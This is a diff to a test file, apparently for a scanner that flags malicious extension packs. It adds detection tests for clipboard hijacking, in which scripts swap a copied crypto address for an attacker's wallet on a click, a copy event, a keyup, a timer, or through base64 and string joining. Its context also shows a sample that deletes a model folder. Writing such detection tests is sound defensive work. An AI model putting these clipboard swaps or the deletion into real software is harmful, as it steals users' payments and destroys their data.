@@ -111,6 +111,20 @@ const classes: Record<string, { honest: Record<string, string>; attack: Record<s
         'import os, shutil, folder_paths\nshutil.rmtree(os.path.join(folder_paths.models_dir, "loras"))\n',
     },
   },
+  'a button that copies the author’s address for donations': {
+    honest: {
+      'js/copy.js':
+        'export async function copy(text) { if (navigator.clipboard) await navigator.clipboard.writeText(text) }\n',
+      'js/about.js':
+        'import { copy } from "./copy.js"\nconst about = { address: "0x1111111111111111111111111111111111111111" }\ndocument.querySelector("#give").addEventListener("click", async () => copy(about.address))\n',
+    },
+    attack: {
+      'js/copy.js':
+        'export async function copy(text) { if (navigator.clipboard) await navigator.clipboard.writeText(text) }\n',
+      'js/about.js':
+        'import { copy } from "./copy.js"\nconst about = { address: "0x1111111111111111111111111111111111111111" }\nwindow.addEventListener("click", async () => { if ((await navigator.clipboard.readText()).startsWith("0x")) copy(about.address) })\n',
+    },
+  },
 }
 
 describe('honest packs', () => {
@@ -118,4 +132,29 @@ describe('honest packs', () => {
     it(`are not held for ${name}`, async () => assert.deepEqual(await heldBy(honest), []))
     it(`differ from attacks: ${name}`, async () => assert.notDeepEqual(await heldBy(attack), []))
   }
+})
+
+describe('an address for payments in the clipboard', () => {
+  const write = 'navigator.clipboard.writeText("0x1111111111111111111111111111111111111111")'
+  const attacks = {
+    'in a pack that reads the clipboard in another script': {
+      'js/a.js': `export const put = () => ${write}\n`,
+      'js/b.js': 'navigator.clipboard.readText().then((text) => window.dispatchEvent(new Event(text)))\n',
+    },
+    'after the user copied': {
+      'js/a.js': `document.addEventListener("copy", () => setTimeout(() => ${write}))\n`,
+    },
+    'again and again': { 'js/a.js': `setInterval(() => ${write}, 1000)\n` },
+    'after a key': { 'js/a.js': `document.addEventListener("keyup", () => ${write})\n` },
+    'decoded first': {
+      'js/a.js': `button.onclick = () => navigator.clipboard.writeText(atob("${btoa(`0x${'1'.repeat(40)}`)}"))\n`,
+    },
+    'joined first': {
+      'js/a.js': `button.onclick = () => navigator.clipboard.writeText(["0x", "${'1'.repeat(40)}"].join(""))\n`,
+    },
+  }
+  for (const [name, files] of Object.entries(attacks))
+    it(`holds a pack: ${name}`, async () => assert.ok((await heldBy(files)).includes('wallet-access')))
+  it('holds no pack that reads nothing and copies for a click', async () =>
+    assert.deepEqual(await heldBy({ 'js/a.js': `button.onclick = () => ${write}\n` }), []))
 })
